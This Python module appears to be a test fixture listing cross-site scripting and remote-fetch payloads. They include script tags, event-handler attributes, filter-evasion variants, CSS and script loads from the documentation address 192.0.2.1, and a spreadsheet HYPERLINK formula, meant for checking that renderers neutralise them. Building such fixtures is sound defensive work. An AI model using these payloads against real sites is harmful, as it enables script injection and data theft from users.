"""Texts that try to run, or to ask another host, wherever they are drawn as markup.

Each sets ``window.taken`` or asks 192.0.2.1 (a network that is for documentation only).
"""

from __future__ import annotations

HOST = "192.0.2.1"
RUN = "window.taken=1"
_EVENTS = (
    *("onload", "onerror", "onclick", "onfocus", "onmouseover", "onpointerenter", "ontoggle"),
    *("onanimationstart", "onbegin", "onpageshow", "onscroll", "onwheel", "ontransitionend"),
)
_URLS = (
    f"http://{HOST}/a",
    f"//{HOST}/b",
    f"javascript:{RUN}",
    f"data:text/html,<script>parent.{RUN}</script>",
    f"https://{HOST}/c.svg",
)
_TAGS = (
    '<img src="{}">',
    '<a href="{}">go</a>',
    '<iframe src="{}"></iframe>',
    '<embed src="{}">',
    '<object data="{}"></object>',
    '<video src="{}" autoplay></video>',
    '<link rel="stylesheet" href="{}">',
    '<form action="{}"><button>go</button></form>',
    '<svg><image href="{}"/></svg>',
    '<meta http-equiv="refresh" content="0;url={}">',
    '<base href="{}">',
    "![image]({})",
    "[link]({})",
    "<{}>",
)
_WHOLE = (
    f"<script>{RUN}</script>",
    f"<script src=http://{HOST}/d.js></script>",
    f"</script><script>{RUN}</script>",
    f"</style><script>{RUN}</script>",
    f"</textarea><script>{RUN}</script>",
    f"--><script>{RUN}</script><!--",
    f"]]><script>{RUN}</script>",
    f"<ScRiPt>{RUN}</sCrIpT>",
    f"<<script>{RUN}//<</script>",
    f"&lt;script&gt;{RUN}&lt;/script&gt;",
    f"\\u003cscript\\u003e{RUN}\\u003c/script\\u003e",
    f'"><script>{RUN}</script>',
    f"'><script>{RUN}</script>",
    f"`${{{RUN}}}`",
    f"{{{{constructor.constructor('{RUN}')()}}}}",
    f"<style>@import 'http://{HOST}/e.css';</style>",
    f"<style>*{{background:url(http://{HOST}/f)}}</style>",
    f"<div style='background:url(//{HOST}/g)'>x</div>",
    f"<math><mtext><img src=x onerror={RUN}></math>",
    f"<template><script>{RUN}</script></template>",
    f"<noscript><img src=x onerror={RUN}></noscript>",
    f"<details open ontoggle={RUN}>x</details>",
    f"<select autofocus onfocus={RUN}></select>",
    f"<portal src=http://{HOST}/h>",
    f"$\\href{{http://{HOST}/i}}{{x}}$",
    f"$$\\includegraphics{{http://{HOST}/j}}$$",
    f":red[text](http://{HOST}/k)",
    f":material/image: ![x](http://{HOST}/l)",
    f"![x][1]\n\n[1]: http://{HOST}/m",
    f"www.{HOST}",
    f'=HYPERLINK("http://{HOST}/n")',
    f"<!--#include virtual='http://{HOST}/o' -->",
    f"datum.x + image('http://{HOST}/p')",
    "%3Cscript%3Ewindow.taken=1%3C/script%3E",
    f"<scr\u200bipt>{RUN}</script>",
    f"\u202e<img src=x onerror={RUN}>",
)
PAYLOADS = tuple(
    dict.fromkeys(
        (
            *(f"<svg {event}={RUN}>" for event in _EVENTS),
            *(f'"{event}="{RUN}" x="' for event in _EVENTS),
            *(tag.format(url) for tag in _TAGS for url in _URLS),
            *_WHOLE,
        )
    )
)
